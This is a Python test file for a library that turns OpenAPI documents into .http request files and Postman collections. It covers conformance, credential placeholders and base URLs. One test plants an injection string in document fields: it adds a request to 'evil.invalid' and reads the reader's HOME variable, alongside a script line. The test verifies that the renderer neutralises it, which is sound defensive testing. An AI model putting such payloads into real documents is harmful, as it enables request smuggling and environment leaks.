"""Example requests of a document: as an .http file, and as a Postman collection."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft7Validator

from code_contract import Contract, load
from code_contract.docs import render
from code_contract.docs.http_file import render_http
from code_contract.docs.postman import render_postman
from mock_server import create_app
from tests.paths import DATA

POSTMAN = Draft7Validator(json.loads((DATA / "postman.schema.json").read_text("utf-8")))
BASE_URL = "http://localhost/base"
DOCUMENTS = ["pets.yaml", "things.json", "world.yaml", "pages.yaml", "excerpts.yaml"]


def http_requests(text: str) -> list[tuple[str, str, dict[str, str], str]]:
    """The method, URL, headers and body of each request of an .http file, its variables replaced by their values."""
    head, *blocks = re.split(r"^### .*\n", text, flags=re.MULTILINE)
    variables = dict(re.findall(r"^@(\w+) = (.*)$", head, re.MULTILINE))
    found = []
    for block in blocks:
        start, _, body = re.sub(r"\{\{(\w+)\}\}", lambda name: variables[name[1]], block).partition("\n\n")
        comment, line, *headers = start.strip().split("\n")
        assert comment.startswith("# @name ")
        method, url = line.split(" ")
        found.append((method, url, dict(each.split(": ", 1) for each in headers), body.strip("\n")))
    return found


def postman_requests(text: str) -> list[dict[str, Any]]:
    """The requests of a valid collection, those in folders included."""
    collection = json.loads(text)
    assert [error.message for error in POSTMAN.iter_errors(collection)] == []
    waiting, found = [*collection["item"]], []
    while waiting:
        item = waiting.pop(0)
        waiting[:0] = item.get("item", [])
        found += [item["request"]] if "request" in item else []
    return found


@pytest.mark.parametrize("name", DOCUMENTS)
def test_every_operation_has_a_request_that_the_mock_accepts(name: str) -> None:
    """Path, query, headers and body of the .http file conform to the document."""
    contract = load(DATA / name)
    client = create_app(contract, base_path="/base").test_client()
    found = http_requests(render_http(contract, BASE_URL))
    assert [each[0] for each in found] == [each.method for each in contract.operations.values()]
    for method, url, headers, body in found:
        client.open(url, method=method, headers=headers, data=body.replace("\n", "\r\n") if "--" in body else body)
    entries = client.get("/__mock/requests").get_json()["requests"]
    assert len(entries) == len(found)
    assert [(each["method"], each["path"], each["violations"]) for each in entries if each["violations"]] == []


@pytest.mark.parametrize("name", DOCUMENTS)
def test_the_collection_has_the_requests_of_the_http_file(name: str) -> None:
    """It is valid by Postman's schema, and its URLs and bodies are those of the .http file."""
    contract = load(DATA / name)
    written = http_requests(render_http(contract, BASE_URL))
    collected = postman_requests(render_postman(contract, BASE_URL))
    # A key in the query is in the URL of the .http file, and an authorization in Postman.
    urls = sorted((method, re.sub(r"[?&][^=]+=change-me", "", url)) for method, url, *_ in written)
    assert sorted((each["method"], each["url"]["raw"].replace("{{baseUrl}}", BASE_URL)) for each in collected) == urls
    bodies = sorted(body for *_, body in written if body.startswith("{"))
    assert sorted(each["body"]["raw"] for each in collected if each.get("body", {}).get("mode") == "raw") == bodies


def test_our_own_request(contract: Contract) -> None:
    """The example of the source, and the content type line of the document."""
    assert render(contract, "http") == (
        "# General interface 1.0.0\n@baseUrl = http://127.0.0.1:4010\n\n### Get a captcha\n# @name getCode\n"
        "POST {{baseUrl}}/code\nSource: PC\nContent-Type: application/json;charset=UTF-8\n"
    )
    (request,) = postman_requests(render(contract, "postman"))
    assert request["header"] == [
        {"key": "Source", "value": "PC"},
        {"key": "Content-Type", "value": "application/json;charset=UTF-8"},
    ]


def made(folder: Path, operation: dict[str, Any], **more: Any) -> Contract:
    node = {"responses": {"200": {"description": "ok"}}, **operation}
    document = {"openapi": "3.1.0", "info": {"title": "T", "version": "1"}, "paths": {"/a": {"post": node}}, **more}
    path = folder / "openapi.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    return load(path)


_BASIC = "Authorization: Basic {{my_key_username}} {{my_key_password}}"
SCHEMES: dict[str, tuple[dict[str, Any], str, str]] = {
    "bearer": ({"type": "http", "scheme": "bearer"}, "Authorization: Bearer {{my_key}}", "bearer"),
    "basic": ({"type": "http", "scheme": "Basic"}, _BASIC, "basic"),
    "oauth2": ({"type": "oauth2", "flows": {}}, "Authorization: Bearer {{my_key}}", "bearer"),
    "header": ({"type": "apiKey", "in": "header", "name": "X-Key"}, "X-Key: {{my_key}}", "apikey"),
    "query": ({"type": "apiKey", "in": "query", "name": "key"}, "POST {{baseUrl}}/a?key={{my_key}}", "apikey"),
    "cookie": ({"type": "apiKey", "in": "cookie", "name": "sid"}, "Cookie: sid={{my_key}}", "noauth"),
}  # fmt: skip


@pytest.mark.parametrize("name", SCHEMES)
def test_credentials_are_variables(name: str, tmp_path: Path) -> None:
    """A variable holds the place of each credential, where its scheme carries it."""
    scheme, line, auth = SCHEMES[name]
    contract = made(tmp_path, {"security": [{"my-key": []}]}, components={"securitySchemes": {"my-key": scheme}})
    text = render(contract, "http")
    assert line in text.split("\n")
    assert re.search(r"^@my_key\w* = change-me$", text, re.MULTILINE)
    (request,) = postman_requests(render(contract, "postman"))
    assert request["auth"]["type"] == auth
    assert "{{my_key" in json.dumps(request)


@pytest.mark.parametrize(
    ("servers", "base_url"),
    [
        ([{"url": "https://api.invalid/v1/"}], "https://api.invalid/v1"),
        ([{"url": "/v1"}], "http://127.0.0.1:4010/v1"),
        ([{"url": "https://{host}/v1", "variables": {"host": {"default": "x.invalid"}}}], "http://127.0.0.1:4010/v1"),
        ([], "http://127.0.0.1:4010"),
    ],
)
def test_the_base_url_is_that_of_the_first_server(servers: list[Any], base_url: str, tmp_path: Path) -> None:
    """A server without a host is the mock on this machine."""
    assert f"@baseUrl = {base_url}\n" in render(made(tmp_path, {}, servers=servers), "http")


def test_texts_of_the_document_are_no_instructions(tmp_path: Path) -> None:
    """No title, header or body adds a request, a header or a script, or reads a variable of the reader."""
    evil = "x\r\n\r\n### y\nGET http://evil.invalid {{$processEnv HOME}}"
    operation = {
        "summary": evil,
        "operationId": evil,
        "tags": [evil],
        "parameters": [
            {"name": "X-A", "in": "header", "example": evil},
            {"name": "q", "in": "query", "example": evil},
        ],
        "requestBody": {"content": {"application/json": {"example": {evil: evil}}}},
    }
    contract = made(tmp_path, operation, components={"securitySchemes": {}})
    text = render(contract, "http")
    ((_, _, _, body),) = http_requests(text)
    assert json.loads(body) == {evil: evil}
    assert "{{$" not in text + render(contract, "postman")
    assert len(postman_requests(render(contract, "postman"))) == 1
    text = "> {% client.log(1) %}\n### z"
    contract = made(tmp_path, {"requestBody": {"content": {"text/plain": {"example": text}}}})
    assert "client.log" not in render(contract, "http")
